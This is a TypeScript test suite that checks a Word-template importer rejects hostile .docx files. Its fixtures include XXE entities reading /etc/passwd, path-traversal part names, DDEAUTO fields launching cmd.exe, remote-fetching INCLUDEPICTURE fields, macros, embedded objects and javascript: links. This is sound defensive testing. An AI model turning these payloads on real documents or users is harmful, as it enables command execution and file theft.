/** What a hostile Word file tries as a template, and does not get. */
import { describe, expect, it } from 'vitest';
import { RefusedWordFile } from '../../main/printing/word-form/word-failure.ts';
import { fillWordTemplate } from '../../main/printing/word-form/word-filling.ts';
import { readWordTemplate } from '../../main/printing/word-form/word-template.ts';
import { unzipped } from '../support/made-files.ts';
import { paragraph, type WordParts, wordFile, zipOf } from '../support/word-files.ts';

const officeTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const link = (type: string, target: string, mode = '') =>
  `<Relationship Id="x" Type="${officeTypes}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;
const external = (type: string, target: string): WordParts => ({ relations: link(type, target, 'External') });

function refusal(bytes: Uint8Array): string {
  try {
    readWordTemplate(bytes);
  } catch (error) {
    if (error instanceof RefusedWordFile) {
      expect(error.said.ru).toMatch(/[а-яё]/iu);
      expect(error.said.fr).not.toBe(error.said.en);
      return error.said.en;
    }
    throw error;
  }
  return 'not refused';
}

describe('a file that is no Word file', () => {
  it.each([
    ['nothing', Buffer.alloc(0), 'no Word file'],
    ['a text', Buffer.from('Dear Sir'), 'no Word file'],
    ['half of a ZIP', Buffer.from('504b0304140000', 'hex'), 'no Word file'],
    ['an old .doc, or one with a password', Buffer.from('d0cf11e0a1b11ae100000000', 'hex'), 'has a password'],
    ['six megabytes', Buffer.alloc(6 * 1024 * 1024), 'up to 5 MB'],
  ])('%s is refused', (_, bytes, words) => {
    expect(refusal(bytes)).toContain(words);
  });

  it('a ZIP of something else, and an Excel file, are refused', async () => {
    expect(refusal(await zipOf({ 'a.txt': 'x' }))).toContain('no Word file');
    const types =
      '<Types><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>';
    const rels = `<Relationships>${link('officeDocument', 'xl/workbook.xml')}</Relationships>`;
    expect(
      refusal(await zipOf({ '[Content_Types].xml': types, '_rels/.rels': rels, 'xl/workbook.xml': '<workbook/>' })),
    ).toContain('no Word file');
  });

  it('one that is cut off or altered is refused', async () => {
    const file = await wordFile(paragraph('x'));
    expect(refusal(file.subarray(0, file.length - 40))).toMatch(/no Word file|damaged/u);
    const altered = Buffer.from(file);
    altered[60] = (altered[60] ?? 0) ^ 0xff;
    expect(refusal(altered)).toMatch(/damaged/u);
  });
});

describe('names of parts', () => {
  it.each([
    '../../evil.xml',
    'word/../../evil.xml',
    '/etc/evil.xml',
    'C:/evil.xml',
    'word\\..\\evil.xml',
    'word//a.xml',
    'word/./a.xml',
  ])('%s is refused', async (name) => {
    // The writer of the test would not write such names: one of the same length is put in its place.
    const plain = `${'x'.repeat(name.length - 4)}.xml`;
    const file = await wordFile(paragraph('x'), { parts: { [plain]: '<a/>' } });
    const altered = Buffer.from(file.toString('latin1').replaceAll(plain, name), 'latin1');
    expect(refusal(altered)).toContain('leads out of it');
  });

  it('that differ in case alone are refused', async () => {
    expect(refusal(await wordFile(paragraph('x'), { parts: { 'WORD/document.xml': '<a/>' } }))).toContain('damaged');
  });
});

describe('XML', () => {
  const part = (content: string | Uint8Array): WordParts => ({ parts: { 'word/settings.xml': content } });

  it.each([
    ['an entity that reads a file', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['entities within entities', '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'],
    ['a DTD from elsewhere', '<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>'],
    ['an entity of its own', '<a>&other;</a>'],
    ['what is not well-formed', '<a><b></a></b>'],
    ['another encoding', '<?xml version="1.0" encoding="UTF-7"?><a/>'],
    ['UTF-16', Buffer.from('\ufeff<!DOCTYPE a><a/>', 'utf16le')],
    ['a sign that XML has not', '<a>&#0;</a>'],
    ['an attribute twice', '<a b="1" b="2"/>'],
  ])('with %s is refused', async (_, content) => {
    expect(refusal(await wordFile(paragraph('x'), part(content)))).toBe(
      'The part “word/settings.xml” of this Word file cannot be read. Open the file in Word and save it anew.',
    );
  });

  it('that hides names of Word behind another prefix is refused', async () => {
    const body = '<x:altChunk xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" r:id="x"/>';
    expect(refusal(await wordFile(body))).toContain('no Word file');
    expect(
      refusal(await wordFile('<p xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')),
    ).toContain('no Word file');
  });
});

describe('what runs', () => {
  const macro = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>';

  it.each<[string, WordParts]>([
    ['a macro', { parts: { 'word/vbaProject.bin': 'x' }, types: macro }],
    [
      'a macro that calls itself a picture',
      { parts: { 'word/vbaProject.bin': 'x' }, types: '<Default Extension="bin" ContentType="image/png"/>' },
    ],
    [
      'a control',
      {
        parts: { 'word/activeX/activeX1.xml': '<a/>' },
        types: '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
      },
    ],
    ['a link to a macro', { relations: link('vbaProject', 'x.png'), parts: { 'word/x.png': 'x' } }],
  ])('%s is refused', async (_, more) => {
    expect(refusal(await wordFile(paragraph('x'), more))).toContain('macros or controls');
  });

  it('a .docm that was renamed is refused', async () => {
    const file = await wordFile(paragraph('x'));
    const parts = Object.fromEntries(await unzipped(file));
    const types = String(parts['[Content_Types].xml']).replace(
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    );
    expect(refusal(await zipOf({ ...parts, '[Content_Types].xml': types }))).toContain('macros or controls');
  });

  const field = (...codes: string[]) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

  it.each([
    field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
    field(' DD', 'E', 'AUTO c:\\\\cmd.exe'),
    field('INCLUDEPICTURE "http://example.org/a.png" \\d'),
    field('INCLUDETEXT "\\\\\\\\server\\\\share\\\\a.docx"'),
    field('LINK Excel.Sheet.8 "c:\\\\a.xls"'),
    field('DATABASE \\d "c:\\\\a.mdb"'),
    field('MACROBUTTON Run here'),
    field('QUOTE 68 68 69'),
    '<w:p><w:fldSimple w:instr=" DDE c:\\cmd.exe"/></w:p>',
    // The name of the field is made by a field inside of it.
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>IF 1=1 "DDE" ""</w:instrText><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  ])('a field of Word that runs or fetches is refused: %#', async (body) => {
    expect(refusal(await wordFile(body))).toContain('field of Word that takes data from elsewhere or runs something');
  });

  it.each([
    'HYPERLINK "file://server/share/a.exe"',
    'HYPERLINK file://server/share/a.exe',
    'HYPERLINK "file://server/share/a.exe" \\l "a"',
    'HYPERLINK \\l "a" "file://server/share/a.exe"',
    'HYPERLINK "https://example.org" file://server/share/a.exe',
    'HYPERLINK \\\\server\\share',
    'HYPERLINK a.exe',
    'HYPERLINK \\n file://server/a.exe',
  ])('a link of a field to something else than a site is refused: %s', async (code) => {
    expect(refusal(await wordFile(field(code)))).toContain('takes something from outside');
  });

  it('fields that count, name or place are taken', async () => {
    const body = [
      ' PAGE ',
      'NUMPAGES \\* MERGEFORMAT',
      'DATE \\@ "d MMMM yyyy"',
      'TOC \\o "1-3"',
      ' = 1 + 2',
      'HYPERLINK "https://example.org"',
      'HYPERLINK https://example.org/a \\* MERGEFORMAT',
      'HYPERLINK "https://example.org" \\l "part two" \\o "See C:\\\\a.txt" \\t "_blank"',
      'HYPERLINK \\l "_Toc1" \\h',
    ].map((code) => field(code));
    expect(refusal(await wordFile(body.join('')))).toBe('not refused');
  });
});

describe('what is embedded', () => {
  it.each<[string, WordParts]>([
    [
      'another document',
      {
        parts: { 'word/part.docx': 'x' },
        types:
          '<Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>',
      },
    ],
    [
      'an Excel file',
      {
        parts: { 'word/embeddings/a.xlsx': 'x' },
        types:
          '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
      },
    ],
    [
      'an object',
      {
        parts: { 'word/embeddings/oleObject1.bin': 'x' },
        types: '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
      },
    ],
    [
      'a page',
      {
        parts: { 'word/a.xhtml': '<html/>' },
        types: '<Default Extension="xhtml" ContentType="application/xhtml+xml"/>',
      },
    ],
    ['a chunk of another format', { relations: link('aFChunk', 'a.png'), parts: { 'word/a.png': 'x' } }],
  ])('%s is refused', async (_, more) => {
    expect(refusal(await wordFile(paragraph('x'), more))).toContain('Another file is embedded');
  });

  it('elements that would show it are refused', async () => {
    expect(refusal(await wordFile('<w:altChunk r:id="x"/>'))).toContain('embedded');
    expect(refusal(await wordFile('<w:p><w:r><w:object/></w:r></w:p>'))).toContain('embedded');
  });

  it('a program or a script is refused by its name', async () => {
    const more = {
      parts: { 'word/run.exe': 'MZ' },
      types: '<Default Extension="exe" ContentType="application/x-msdownload"/>',
    };
    expect(refusal(await wordFile(paragraph('x'), more))).toContain('word/run.exe');
  });
});

describe('what leads elsewhere', () => {
  it.each<[string, WordParts]>([
    ['a picture on a site', external('image', 'http://example.org/track.png')],
    ['a picture on a share', external('image', 'file://server/share/a.png')],
    ['a link to a file', external('hyperlink', 'file:///c:/windows/system32/cmd.exe')],
    ['a link to a script', external('hyperlink', 'javascript:alert(1)')],
    ['a frame', external('frame', 'http://example.org')],
    ['a list for mailing', external('mailMergeSource', 'file:///c:/clients.mdb')],
    ['a part outside of the file', { relations: link('image', '../../../../etc/passwd') }],
    ['a part on a share', { relations: link('image', '\\\\server\\a.png') }],
    ['a part with an address', { relations: link('image', 'http://example.org/a.png') }],
    ['a list without the word for it', { relations: link('image', 'HTTPS://example.org/a.png', 'external') }],
  ])('%s is refused', async (_, more) => {
    expect(refusal(await wordFile(paragraph('x'), more))).toContain('takes something from outside');
  });

  it('a picture of an older kind with an address is refused', async () => {
    const body =
      '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://example.org/a.png"/></v:shape></w:pict></w:r></w:p>';
    expect(refusal(await wordFile(body))).toContain('takes something from outside');
  });

  it('links to sites and addresses of mail are taken; the template that Word made the file from is forgotten', async () => {
    expect(refusal(await wordFile(paragraph('x'), external('hyperlink', 'https://example.org')))).toBe('not refused');
    const settings =
      '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:zoom/><w:attachedTemplate r:id="x" xmlns:r="r"/></w:settings>';
    const file = await wordFile(paragraph('x'), {
      parts: {
        'word/settings.xml': settings,
        'word/_rels/settings.xml.rels': `<Relationships>${link('attachedTemplate', 'http://example.org/evil.dotm', 'External')}</Relationships>`,
      },
    });
    const made = await unzipped(fillWordTemplate(readWordTemplate(file), { view: {}, title: '', author: '' }));
    expect(String(made.get('word/settings.xml'))).toContain('<w:zoom/></w:settings>');
    expect(String(made.get('word/_rels/settings.xml.rels'))).toContain('<Relationships/>');
  });
});

it('a ZIP with a password on its entries is refused', async () => {
  const file = await wordFile(paragraph('x'));
  const at = file.indexOf(Buffer.from('504b0102', 'hex'));
  file.writeUInt16LE(file.readUInt16LE(at + 8) | 1, at + 8);
  expect(refusal(file)).toContain('password');
});
